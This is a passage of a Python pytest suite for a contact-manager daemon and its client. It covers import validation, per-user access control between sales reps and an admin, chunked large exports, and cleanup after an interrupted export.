    add_contact(daemon, "Ada Lovelace", company="Acme, Inc.",
                email="ada@example.com", notes="a\nb", stage="proposal",
                tz="Europe/London")
    export(daemon, tmp_path, "--format", "csv", name="c.csv")
    rc, out, err = daemon.client("import", "--dry-run",
                                 str(tmp_path / "c.csv"))
    assert rc == 0 and "ID             (ignored)" in out, out
    assert "would add 0, update 0, leave 1 unchanged, skip 0" in out


def test_import_sends_big_files_in_batches(daemon, tmp_path):
    rows = ["Name,Email,Notes"] + [
        "Person %d,p%d@example.com,%s" % (i, i, "x" * 500)
        for i in range(1, 401)]
    path = tmp_path / "big.csv"
    path.write_text("\n".join(rows) + "\n")
    r = imp(daemon, path)
    assert r["counts"]["added"] == 400
    assert daemon.call("status")["counts"]["contacts"] == 400
    r = imp(daemon, path)
    assert r["counts"]["unchanged"] == 400


def test_import_refuses_bad_files(daemon, tmp_path):
    for name, data, word in (
            ("e.csv", b"", "empty"),
            ("n.csv", b"Company,Email\nAcme,a@example.com\n", "name"),
            ("u.csv", "Name\nA\n".encode("utf-16"), "UTF-16"),
            ("v.vcf", b"no cards here\n", "BEGIN:VCARD")):
        (tmp_path / name).write_bytes(data)
        rc, out, err = daemon.client("import", str(tmp_path / name))
        assert rc == 2 and word in err, (name, err)
    rc, out, err = daemon.client("import", str(tmp_path / "missing.csv"))
    assert rc == 2 and "No such file" in err
    rc, out, err = daemon.client("import", "x.csv", "--format", "xls")
    assert rc == 2 and "unknown format" in err


def test_contact_import_op_checks_its_records(conn):
    r = conn.call("contact.import", contacts=[
        {"line": 1, "name": "A", "email": "a@example.com"},
        "not an object",
        {"line": 3, "name": "B", "colour": "blue"},
        {"line": 4, "name": 5},
        {"line": 5, "email": "noname@example.com"}])
    assert r["counts"] == {"added": 1, "updated": 0, "unchanged": 0,
                           "skipped": 4}
    assert [x["reason"] for x in r["results"][1:]] == [
        "a record must be an object", "unknown field \"colour\"",
        "\"name\" must be a string", "a contact needs a name"]
    e = conn.error("contact.import", contacts=[{}] * 1001)
    assert e["code"] == "bad_request"
    assert conn.error("contact.import", contacts={})["code"] == \
        "bad_request"


# --- a team: reps and an admin (needs root, useradd, setpriv) ---

ANA, BEN, BOSS = "fu-io-ana", "fu-io-ben", "fu-io-boss"
TEAM, ADMINS = "fu-io-team", "fu-io-admins"
USERS = {ANA: [TEAM], BEN: [TEAM], BOSS: [TEAM, ADMINS]}


def _drop_users():
    for u in USERS:
        account(["userdel", u], check=False)
    for g in (TEAM, ADMINS):
        account(["groupdel", g], check=False)


@pytest.fixture(scope="module")
def team():
    if os.geteuid() != 0 or shutil.which("useradd") is None or \
            shutil.which("setpriv") is None:
        pytest.skip("needs root, useradd, setpriv")
    _drop_users()
    for g in (TEAM, ADMINS):
        account(["groupadd", g])
    for u, groups in USERS.items():
        account(["useradd", "-M", "-s", "/usr/sbin/nologin", "-d",
                 "/nonexistent", "-G", ",".join(groups), u])
    top = tempfile.mkdtemp(prefix="fu-io-", dir="/tmp")
    os.chmod(top, 0o777)
    client = os.path.join(top, "followup")
    shutil.copy(FOLLOWUP, client)
    os.chmod(client, 0o755)
    state = os.path.join(top, "state")
    os.mkdir(state, 0o700)
    conf = os.path.join(state, "followupd.conf")
    with open(conf, "w") as f:
        f.write("[daemon]\nlog = stderr\nsocket_group = %s\n"
                "admin_group = %s\n" % (TEAM, ADMINS))
    sock = os.path.join(top, "run", "followupd.sock")
    log = open(os.path.join(state, "log"), "wb")
    proc = subprocess.Popen(WRAPPER + [FOLLOWUPD, "-v", "--config", conf,
                                       "--socket", sock, "--database",
                                       os.path.join(state, "fu.db")],
                            stdout=log, stderr=subprocess.STDOUT,
                            env=dict(os.environ, TZ="UTC"))
    deadline = time.time() + 60
    while not os.path.exists(sock) and time.time() < deadline:
        assert proc.poll() is None, open(os.path.join(state, "log")).read()
        time.sleep(0.05)
    yield {"sock": sock, "client": client, "top": top}
    proc.send_signal(signal.SIGTERM)
    rc = proc.wait(120)
    log.close()
    shutil.rmtree(top)
    _drop_users()
    assert rc == 0


def run(team, user, *args):
    pw = pwd.getpwnam(user)
    p = subprocess.run(["setpriv", "--reuid=%d" % pw.pw_uid,
                        "--regid=%d" % pw.pw_gid, "--init-groups", "--",
                        team["client"], "--socket", team["sock"]] +
                       list(args), capture_output=True, text=True,
                       timeout=120, env=dict(os.environ, TZ="UTC"),
                       cwd=team["top"])
    return p.returncode, p.stdout, p.stderr


def test_reps_export_and_import_only_their_own(team):
    csv_path = os.path.join(team["top"], "ana.csv")
    with open(csv_path, "w") as f:
        f.write("Name,Email\nAna Lead,lead@ana.example\n")
    os.chmod(csv_path, 0o644)
    rc, out, err = run(team, ANA, "import", csv_path)
    assert rc == 0 and "1 added" in out, err
    rc, out, err = run(team, BEN, "contact", "add", "Ben Lead", "--email",
                       "lead@ben.example")
    assert rc == 0, err
    rc, out, err = run(team, ANA, "schedule", "1", "tomorrow 10:00",
                       "--callback")
    assert rc == 0, err

    # Ben's export holds none of Ana's, and he may not ask for hers.
    rc, out, err = run(team, BEN, "export", "--format", "json")
    assert rc == 0, err
    doc = json.loads(out)
    assert [c["name"] for c in doc["contacts"]] == ["Ben Lead"]
    assert doc["followups"] == []
    for args in (["--owner", ANA], ["--all"]):
        rc, out, err = run(team, BEN, "export", "--format", "ics", *args)
        assert rc == 1 and "admin" in err and out == "", (args, err)
    rc, out, err = run(team, BEN, "--as", ANA, "export", "--format", "csv")
    assert rc == 1 and "admin" in err
    # Nor import into her contacts: --owner and --as are refused, and his
    # own import of her contact's email adds his own contact.
    for args in (["import", csv_path, "--owner", ANA],
                 ["--as", ANA, "import", csv_path]):
        rc, out, err = run(team, BEN, *args)
        assert rc == 1 and "admin" in err, (args, err)
    rc, out, err = run(team, BEN, "--json", "import", csv_path)
    assert rc == 0 and json.loads(out)["counts"]["added"] == 1, err
    rc, out, err = run(team, ANA, "--json", "export", "--format", "json")
    ana = json.loads(out)
    assert [c["name"] for c in ana["contacts"]] == ["Ana Lead"]

    # The admin exports a rep's, or the team's, and imports for a rep.
    rc, out, err = run(team, BOSS, "export", "--format", "csv",
                       "--owner", ANA)
    assert rc == 0 and "Ana Lead" in out and "Ben Lead" not in out, err
    rc, out, err = run(team, BOSS, "export", "--format", "ics", "--all")
    assert rc == 0, err
    ev = icalendar.Calendar.from_ical(out).walk("VEVENT")
    assert len(ev) == 1 and "Rep: %s" % ANA in str(ev[0]["DESCRIPTION"])
    with open(csv_path, "w") as f:
        f.write("Name,Email,Company\nAna Lead,LEAD@ana.example,Acme\n"
                "Second,second@ana.example,\n")
    rc, out, err = run(team, BOSS, "--json", "import", csv_path, "--owner",
                       ANA)
    assert rc == 0, err
    assert json.loads(out)["counts"] == {"added": 1, "updated": 1,
                                         "unchanged": 0, "skipped": 0}
    # For Ben, the same file matches the contact he imported himself.
    rc, out, err = run(team, BOSS, "--as", BEN, "--json", "import",
                       csv_path)
    assert rc == 0, err
    assert json.loads(out)["counts"] == {"added": 1, "updated": 1,
                                         "unchanged": 0, "skipped": 0}
    rc, out, err = run(team, ANA, "--json", "contact", "list")
    mine = json.loads(out)["contacts"]
    assert sorted((c["name"], c["company"], c["owner"]) for c in mine) == \
        [("Ana Lead", "Acme", ANA), ("Second", None, ANA)]
    rc, out, err = run(team, BOSS, "import", csv_path, "--owner",
                       "fu-io-nobody")
    assert rc == 1 and "no user" in err


def big_contacts(daemon, n, note_len):
    """Add n contacts with long notes, pipelined on one connection."""
    conn = daemon.connect()
    note = ("Lorem ipsum dolor sit amet. " * (note_len // 28 + 1))[
        :note_len - 2] + "é"
    # In batches: each reply holds the notes, and the daemon stops
    # reading a client that leaves too many replies unread.
    for start in range(0, n, 10):
        batch = range(start, min(n, start + 10))
        for i in batch:
            conn.send({"id": i, "op": "contact.add",
                       "args": {"name": "Big %d" % i, "notes": note}})
        for i in batch:
            assert conn.reply()["ok"]
    conn.close()


def test_an_export_larger_than_a_reply_line_comes_in_pieces(daemon,
                                                            tmp_path):
    # 2,000 contacts with 10,000-byte notes: a JSON document of about
    # 20 MB, more than a reply line may hold.
    big_contacts(daemon, 2000, 10000)
    conn = daemon.connect()
    conn.send({"id": "x", "op": "export", "args": {"format": "json"}})
    conn.send({"id": "after", "op": "hello"})
    pieces, longest = [], 0
    while True:
        line = conn.line()
        assert line, "the daemon closed the connection"
        longest = max(longest, len(line))
        r = json.loads(line)
        assert r["id"] == "x", r
        if "chunk" in r:
            assert "ok" not in r
            pieces.append(r["chunk"])
            continue
        break
    assert r["ok"], r
    doc = "".join(pieces)
    assert len(doc.encode()) > 16 * 1024 * 1024
    assert r["result"]["bytes"] == len(doc.encode())
    assert r["result"]["counts"] == {"contacts": 2000, "interactions": 0,
                                     "followups": 0}
    assert len(pieces) > 100 and longest < 512 * 1024, (len(pieces), longest)
    data = json.loads(doc)
    assert [c["name"] for c in data["contacts"]] == \
        ["Big %d" % i for i in range(2000)]
    # The request behind the export is answered after it.
    assert conn.reply() == {"id": "after", "ok": True,
                            "result": conn.call("hello")}
    # The client writes it to a file whole, and says so.
    rc, out, err = daemon.client("export", "--format", "csv",
                                 "-o", str(tmp_path / "big.csv"))
    assert rc == 0 and "Exported 2000 contacts" in out, (out, err)
    with open(tmp_path / "big.csv", newline="") as f:
        rows = list(csv.reader(f))
    assert len(rows) == 2001 and len(rows[1][7]) == 9999
    assert os.listdir(tmp_path).count("big.csv") == 1
    assert not [n for n in os.listdir(tmp_path) if n.startswith("big.csv.")]


def test_an_unread_export_holds_up_nobody(daemon):
    big_contacts(daemon, 600, 10000)
    # Ten exports nobody reads, and one whose reader hangs up at once.
    deaf = [daemon.connect() for _ in range(10)]
    for d in deaf:
        d.send({"id": 1, "op": "export", "args": {"format": "json"}})
    gone = daemon.connect()
    gone.send({"id": 1, "op": "export", "args": {"format": "csv"}})
    gone.close()
    other = daemon.connect()
    for _ in range(20):
        assert other.call("hello")["server"] == "followupd"
        assert other.call("contact.list", limit=1)["contacts"]
    # Each unread export holds at most its output limit, not the
    # document (6 MB each).
    with open("/proc/%d/status" % daemon.proc.pid) as f:
        status = f.read()
    rss = int(re.search(r"VmRSS:\s+(\d+) kB", status).group(1))
    if "valgrind" not in " ".join(daemon.proc.args) and \
            "libasan" not in open("/proc/%d/maps" % daemon.proc.pid).read():
        assert rss < 48 * 1024, status
    # A reader that comes back gets the whole document.
    d = deaf[0]
    pieces = []
    while True:
        r = json.loads(d.line())
        if "chunk" not in r:
            break
        pieces.append(r["chunk"])
    assert r["ok"] and len(json.loads("".join(pieces))["contacts"]) == 600
    for d in deaf:
        d.close()


def test_an_old_client_is_refused_not_sent_pieces(daemon):
    # A protocol 1 client checks hello's protocol before anything else.
    assert daemon.call("hello")["protocol"] == 2


def test_an_export_cut_short_leaves_no_file(daemon, tmp_path):
    big_contacts(daemon, 2000, 10000)
    rc, out, err = daemon.client("export", "--format", "json", "-o",
                                 "/dev/null")
    assert rc == 0 and "Exported 2000 contacts" in out, (out, err)
    out_dir = tmp_path / "out"
    out_dir.mkdir()
    path = out_dir / "all.json"
    p = subprocess.Popen([FOLLOWUP, "--socket", daemon.sock, "export", "-o",
                          str(path)], stdout=subprocess.PIPE,
                         stderr=subprocess.PIPE, text=True)
    # Stop the client once part of the document is written, stop the
    # daemon, and let the client find the stream broken.
    deadline = time.time() + 30
    while time.time() < deadline:
        parts = [f for f in out_dir.iterdir() if f.stat().st_size > 0]
        if parts:
            break
        time.sleep(0.005)
    p.send_signal(signal.SIGSTOP)
    assert parts and parts[0].name.startswith("all.json."), parts
    daemon.kill9()
    p.send_signal(signal.SIGCONT)
    out, err = p.communicate(timeout=30)
    assert p.returncode == 3 and "incomplete" in err, (out, err)
    assert list(out_dir.iterdir()) == []
